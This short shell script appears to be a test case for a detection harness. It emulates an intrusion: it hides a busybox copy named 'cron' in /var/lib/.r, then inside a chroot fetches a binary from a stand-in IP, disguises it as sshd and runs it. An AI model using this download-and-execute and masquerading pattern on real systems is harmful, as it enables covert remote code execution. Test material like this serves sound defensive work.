#!/bin/sh
. /opt/case/case.sh

r=/var/lib/.r; mkdir -p $r/usr/sbin $r/bin $r/tmp $r/etc
cp /bin/busybox $r/usr/sbin/cron
ln $r/usr/sbin/cron $r/bin/sh; ln $r/usr/sbin/cron $r/bin/wget; ln $r/usr/sbin/cron $r/bin/chmod
chroot $r /bin/sh -c 'wget -q http://203.0.113.10/programs/marker -O /usr/sbin/sshd && chmod 755 /usr/sbin/sshd && /usr/sbin/sshd'
test -e $r/tmp/reached
took_place
